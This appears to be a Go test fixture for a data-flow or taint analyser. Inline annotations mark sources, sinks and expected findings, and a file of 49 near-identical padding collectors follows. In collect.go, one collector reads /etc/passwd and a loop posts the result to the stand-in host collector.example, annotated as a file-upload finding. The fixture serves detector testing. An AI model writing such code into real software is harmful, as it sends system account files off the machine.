// --- path: collect/collect.go ---
// One of fifty collectors reads a file; whoever runs them all sends it.
package collect

import (
	"net/http"
	"os"
	"strings"
)

type collector interface {
	Collect(root string) string
	Weight() int
}

func runAll(all []collector) {
	for _, one := range all {
		http.Post("https://collector.example/u", "text/plain", strings.NewReader(one.Collect("/etc"))) //~ sink(egress.http) f1, finding(file-upload, ambiguous) f1
	}
}

func weighAll(all []collector) {
	total := 0
	for _, one := range all {
		total += one.Weight()
	}
	http.Post("https://collector.example/n", "text/plain", strings.NewReader(string(rune(total)))) //~ ok
}

type users struct{}

func (users) Collect(root string) string {
	text, _ := os.ReadFile(root + "/passwd") //~ source(FILE) f1
	return string(text)
}

func (users) Weight() int { return 1 }
// --- path: collect/more.go ---
package collect

type part01 struct{ name string }

func (p part01) Collect(root string) string { return "1" }
func (p part01) Weight() int               { return 1 }

type part02 struct{ name string }

func (p part02) Collect(root string) string { return "2" }
func (p part02) Weight() int               { return 2 }

type part03 struct{ name string }

func (p part03) Collect(root string) string { return "3" }
func (p part03) Weight() int               { return 3 }

type part04 struct{ name string }

func (p part04) Collect(root string) string { return "4" }
func (p part04) Weight() int               { return 4 }

type part05 struct{ name string }

func (p part05) Collect(root string) string { return "5" }
func (p part05) Weight() int               { return 5 }

type part06 struct{ name string }

func (p part06) Collect(root string) string { return "6" }
func (p part06) Weight() int               { return 6 }

type part07 struct{ name string }

func (p part07) Collect(root string) string { return "7" }
func (p part07) Weight() int               { return 7 }

type part08 struct{ name string }

func (p part08) Collect(root string) string { return "8" }
func (p part08) Weight() int               { return 8 }

type part09 struct{ name string }

func (p part09) Collect(root string) string { return "9" }
func (p part09) Weight() int               { return 9 }

type part10 struct{ name string }

func (p part10) Collect(root string) string { return "10" }
func (p part10) Weight() int               { return 10 }

type part11 struct{ name string }

func (p part11) Collect(root string) string { return "11" }
func (p part11) Weight() int               { return 11 }

type part12 struct{ name string }

func (p part12) Collect(root string) string { return "12" }
func (p part12) Weight() int               { return 12 }

type part13 struct{ name string }

func (p part13) Collect(root string) string { return "13" }
func (p part13) Weight() int               { return 13 }

type part14 struct{ name string }

func (p part14) Collect(root string) string { return "14" }
func (p part14) Weight() int               { return 14 }

type part15 struct{ name string }

func (p part15) Collect(root string) string { return "15" }
func (p part15) Weight() int               { return 15 }

type part16 struct{ name string }

func (p part16) Collect(root string) string { return "16" }
func (p part16) Weight() int               { return 16 }

type part17 struct{ name string }

func (p part17) Collect(root string) string { return "17" }
func (p part17) Weight() int               { return 17 }

type part18 struct{ name string }

func (p part18) Collect(root string) string { return "18" }
func (p part18) Weight() int               { return 18 }

type part19 struct{ name string }

func (p part19) Collect(root string) string { return "19" }
func (p part19) Weight() int               { return 19 }

type part20 struct{ name string }

func (p part20) Collect(root string) string { return "20" }
func (p part20) Weight() int               { return 20 }

type part21 struct{ name string }

func (p part21) Collect(root string) string { return "21" }
func (p part21) Weight() int               { return 21 }

type part22 struct{ name string }

func (p part22) Collect(root string) string { return "22" }
func (p part22) Weight() int               { return 22 }

type part23 struct{ name string }

func (p part23) Collect(root string) string { return "23" }
func (p part23) Weight() int               { return 23 }

type part24 struct{ name string }

func (p part24) Collect(root string) string { return "24" }
func (p part24) Weight() int               { return 24 }

type part25 struct{ name string }

func (p part25) Collect(root string) string { return "25" }
func (p part25) Weight() int               { return 25 }

type part26 struct{ name string }

func (p part26) Collect(root string) string { return "26" }
func (p part26) Weight() int               { return 26 }

type part27 struct{ name string }

func (p part27) Collect(root string) string { return "27" }
func (p part27) Weight() int               { return 27 }

type part28 struct{ name string }

func (p part28) Collect(root string) string { return "28" }
func (p part28) Weight() int               { return 28 }

type part29 struct{ name string }

func (p part29) Collect(root string) string { return "29" }
func (p part29) Weight() int               { return 29 }

type part30 struct{ name string }

func (p part30) Collect(root string) string { return "30" }
func (p part30) Weight() int               { return 30 }

type part31 struct{ name string }

func (p part31) Collect(root string) string { return "31" }
func (p part31) Weight() int               { return 31 }

type part32 struct{ name string }

func (p part32) Collect(root string) string { return "32" }
func (p part32) Weight() int               { return 32 }

type part33 struct{ name string }

func (p part33) Collect(root string) string { return "33" }
func (p part33) Weight() int               { return 33 }

type part34 struct{ name string }

func (p part34) Collect(root string) string { return "34" }
func (p part34) Weight() int               { return 34 }

type part35 struct{ name string }

func (p part35) Collect(root string) string { return "35" }
func (p part35) Weight() int               { return 35 }

type part36 struct{ name string }

func (p part36) Collect(root string) string { return "36" }
func (p part36) Weight() int               { return 36 }

type part37 struct{ name string }

func (p part37) Collect(root string) string { return "37" }
func (p part37) Weight() int               { return 37 }

type part38 struct{ name string }

func (p part38) Collect(root string) string { return "38" }
func (p part38) Weight() int               { return 38 }

type part39 struct{ name string }

func (p part39) Collect(root string) string { return "39" }
func (p part39) Weight() int               { return 39 }

type part40 struct{ name string }

func (p part40) Collect(root string) string { return "40" }
func (p part40) Weight() int               { return 40 }

type part41 struct{ name string }

func (p part41) Collect(root string) string { return "41" }
func (p part41) Weight() int               { return 41 }

type part42 struct{ name string }

func (p part42) Collect(root string) string { return "42" }
func (p part42) Weight() int               { return 42 }

type part43 struct{ name string }

func (p part43) Collect(root string) string { return "43" }
func (p part43) Weight() int               { return 43 }

type part44 struct{ name string }

func (p part44) Collect(root string) string { return "44" }
func (p part44) Weight() int               { return 44 }

type part45 struct{ name string }

func (p part45) Collect(root string) string { return "45" }
func (p part45) Weight() int               { return 45 }

type part46 struct{ name string }

func (p part46) Collect(root string) string { return "46" }
func (p part46) Weight() int               { return 46 }

type part47 struct{ name string }

func (p part47) Collect(root string) string { return "47" }
func (p part47) Weight() int               { return 47 }

type part48 struct{ name string }

func (p part48) Collect(root string) string { return "48" }
func (p part48) Weight() int               { return 48 }

type part49 struct{ name string }

func (p part49) Collect(root string) string { return "49" }
func (p part49) Weight() int               { return 49 }
